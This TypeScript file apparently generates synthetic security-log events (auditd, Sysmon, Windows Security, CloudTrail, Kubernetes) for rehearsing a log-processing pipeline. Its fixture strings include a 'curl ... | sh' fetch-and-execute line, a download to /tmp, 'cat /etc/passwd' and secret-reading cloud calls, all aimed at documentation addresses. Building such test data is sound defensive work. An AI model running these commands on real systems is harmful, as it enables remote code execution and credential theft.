/** Events a round has; few enough that a round is over soon. */
export const EVENTS_A_ROUND = 48;

const START = Date.UTC(2026, 0, 1);
const SYSMON = "Microsoft-Windows-Sysmon/Operational";

/** Made-up events of every kind that is read in a way of its own, and values of every kind that is masked in one. */
export function makeRehearsalEvents(round: number): object[] {
  return Array.from({ length: EVENTS_A_ROUND }, (_, index) => {
    const number = round * EVENTS_A_ROUND + index;
    const text = (at: number) => String(TEXTS[(number + at) % TEXTS.length]?.(number));
    return {
      _id: `${String(number).padStart(8, "0")}-0000-4000-8000-000000000000`,
      agent_id: "rehearsal",
      organization_id: "rehearsal",
      timestamp: START + number,
      ...MADE[index % MADE.length]?.(number, text),
    };
  });
}

type Text = (at: number) => string;

/** What changes from one event to the next, as sensors write it. */
const TEXTS: readonly ((number: number) => string)[] = [
  (number) => `/srv/${number.toString(36)}/${String(number)}.log`,
  (number) => `/tmp/tmpAb${String(number)}Cd/x.sh`,
  (number) => `C:\\Temp\\{0${String(1e7 + number).slice(1)}-0000-4000-8000-000000000000}.tmp`,
  (number) =>
    `2026-01-01T00:00:00.${String(number).padStart(3, "0")}Z 10:00:${String(number % 60)}`,
  (number) =>
    `app-1.2.${String(number)} deadbeef${String(number).padStart(8, "0")} 0x${number.toString(16)}`,
  (number) =>
    `web-7d9f8b6c5d-x${String(number % 10)}k2p S-1-5-21-1-2-3-${String(number)} a1b2c3d4e5`,
  (number) => `curl http://192.0.2.${String(number % 250)}/a?b=${String(number)} | sh`,
];

/** Everyday commands that behaviours of much text are about. */
const LINUX_COMMANDS = [
  "systemctl restart rsyslog",
  "service auditd status",
  "curl -s -o /tmp/x http://192.0.2.1/a",
  "ufw status",
  "crontab -l",
  "tar czf /tmp/a.tgz /etc/hosts",
  "cp a.conf /etc/systemd/system/a.service",
  "cat /etc/passwd",
  "useradd -m nobody",
  "chmod 755 /usr/local/bin/a",
  "ssh nobody@192.0.2.1",
  "bash -c 'echo a > /tmp/b'",
  "docker ps",
];
const WINDOWS_COMMANDS = [
  "ipconfig /all",
  "sc query sense",
  "net.exe use",
  "schtasks /query /fo csv",
  "powershell -NoProfile -Command Get-Service",
  "cmd /c whoami",
  "wmic process list brief",
  "reg query HKLM\\Software\\Example",
  "netsh interface show interface",
  "rundll32 shell32.dll,Control_RunDLL",
  "7z a C:\\Temp\\a.zip C:\\Temp\\b",
  "taskkill /im notepad.exe",
  "msiexec /i C:\\Temp\\a.msi /quiet",
];

/** Calls whose names speak of secrets are read by rules that other words do not reach. */
const CLOUD_CALLS = [
  { eventSource: "s3.amazonaws.com", eventName: "GetObject" },
  { eventSource: "secretsmanager.amazonaws.com", eventName: "GetSecretValue" },
  { eventSource: "iam.amazonaws.com", eventName: "CreateAccessKey" },
  { eventSource: "ec2.amazonaws.com", eventName: "AuthorizeSecurityGroupIngress" },
];

/** One after the other, and then none for a few turns. */
function turnOf(commands: readonly string[], number: number): string | undefined {
  return commands[Math.floor(number / MADE.length) % (commands.length + 3)];
}

function addressOf(number: number): string {
  if (number % 3 === 0) return `fe80:0:0:0:0:0:0:${number.toString(16)}`;
  return number % 3 === 1 ? `192.0.2.${String(number % 250)}` : `10.0.0.${String(number % 250)}`;
}

const MADE: readonly ((number: number, text: Text) => object)[] = [
  (number, text) => ({
    event_type: "audit",
    type: "start",
    syscall: "execve",
    user: "nobody",
    exe: "/usr/bin/cat",
    command: "cat",
    arguments: number % 3 === 0 ? `cat ${text(0)}` : LINUX_COMMANDS[number % LINUX_COMMANDS.length],
    pid: number,
    tty: number % 2 === 0 ? "pts0" : null,
    session: 1,
    parent_metadata: { exe: "/usr/bin/bash" },
    provider_metadata: { account_id: "000000000000" },
  }),
  (number) => ({
    event_type: "audit",
    type: "connect",
    syscall: "connect",
    user: "nobody",
    exe: "/usr/bin/curl",
    src_ip: "192.0.2.1",
    dst_ip: addressOf(number),
    dst_port: "443",
  }),
  (number) => ({
    event_type: "login",
    type: "start",
    user: `user${String(number)}`,
    src_ip: addressOf(number),
    host_metadata: { hostname: "rehearsal" },
  }),
  (number, text) => ({
    event_type: "host",
    log: `Jan  1 00:00:00 rehearsal cron[${String(number)}]: (nobody) CMD (${text(0)})`,
  }),
  (number) => ({
    event_type: "host",
    log: `Jan  1 00:00:00 rehearsal sshd[${String(number)}]: Failed password for nobody from 192.0.2.${String(number % 250)} port ${String(number)} ssh2`,
  }),
  (_number, text) => ({ event_type: "file", filename: text(0), event: "create", user: "nobody" }),
  (number, text) => ({
    event_type: "winsec",
    win_event_id: 1,
    channel: SYSMON,
    exe: "C:\\Windows\\System32\\sc.exe",
    user: "NT AUTHORITY\\SYSTEM",
    arguments: turnOf(WINDOWS_COMMANDS, number) ?? `where ${text(0)}`,
    pid: String(number),
    message: `Process Create:\r\nProcessId: ${String(number)}\r\nParentImage: C:\\Windows\\System32\\cmd.exe`,
    host_metadata: { hostname: "rehearsal" },
  }),
  (number) => ({
    event_type: "winsec",
    win_event_id: 3,
    channel: SYSMON,
    exe: "C:\\Windows\\System32\\svchost.exe",
    user: "NT AUTHORITY\\SYSTEM",
    src_ip: addressOf(number + 1),
    dst_ip: addressOf(number),
    dst_port: "443",
    message: `Network connection detected:\r\nProcessId: ${String(number)}`,
  }),
  (number, text) => ({
    event_type: "winsec",
    win_event_id: number % 2 === 0 ? 13 : 11,
    provider: "Microsoft-Windows-Sysmon",
    Image: "C:\\Windows\\System32\\svchost.exe",
    TargetObject: `HKLM\\Software\\${text(0)}`,
    TargetFilename: text(1),
    Details: "DWORD (0x00000000)",
    hostname: "rehearsal.example.com",
  }),
  (number, text) => ({
    event_type: "winsec",
    win_event_id: number % 2 === 0 ? 10 : 7,
    provider: "Microsoft-Windows-Sysmon",
    sid: "S-1-5-18",
    SourceImage: "C:\\Windows\\System32\\svchost.exe",
    TargetImage: "C:\\Windows\\System32\\lsm.exe",
    ImageLoaded: text(2),
    GrantedAccess: "0x1000",
    CallTrace: "ntdll.dll+9d234|UNKNOWN(00000000)",
    hostname: "rehearsal.example.com",
  }),
  (number) => ({
    event_type: "winsec",
    win_event_id: 4624,
    channel: "Security",
    message: `An account was successfully logged on.\r\n\r\nNew Logon:\r\n\tAccount Name:\t\tnobody\r\n\tLogon ID:\t\t0x${number.toString(16)}`,
  }),
  (number, text) => ({
    event_type: "winsec",
    win_event_id: 4656,
    provider: "Microsoft-Windows-Security-Auditing",
    SubjectUserName: number % 2 === 0 ? "nobody" : "REHEARSAL$",
    SubjectDomainName: "EXAMPLE",
    ObjectName: text(3),
    AccessMask: "0x1",
    HandleId: number,
    ProcessName: "C:\\Windows\\System32\\svchost.exe",
    message: "A handle to an object was requested.",
  }),
  (number, text) => ({
    event_type: "winsec",
    win_event_id: 40_000 + (number % 3),
    provider: "Example-Service",
    channel: "Example-Service/Operational",
    message: `The service changed.\r\n\r\nSubject:\r\n\tAccount Name:\tnobody\r\nState:\r\n\tName:\t${text(4)}\r\n\tValue:\t-`,
  }),
  (_number, text) => ({
    event_type: "winsec",
    win_event_id: 4104,
    channel: "Microsoft-Windows-PowerShell/Operational",
    message: `Creating Scriptblock text (1 of 1):\r\nGet-Item ${text(0)}`,
  }),
  (number, text) => ({
    event_type: "cloudtrail",
    ...CLOUD_CALLS[Math.floor(number / MADE.length) % CLOUD_CALLS.length],
    awsRegion: "us-east-1",
    sourceIPAddress: addressOf(number),
    userAgent: "rehearsal/1.0",
    ...(number % 2 === 0 && { errorCode: "AccessDenied" }),
    userIdentity: { type: "IAMUser", userName: "nobody", accountId: "000000000000" },
    requestParameters: { bucketName: "rehearsal", key: text(0) },
  }),
  (number, text) => ({
    event_type: "kubernetesAudit",
    verb: "get",
    user: { username: "nobody" },
    objectRef: { resource: "pods", namespace: "default", name: text(5) },
    sourceIPs: [addressOf(number)],
  }),
];
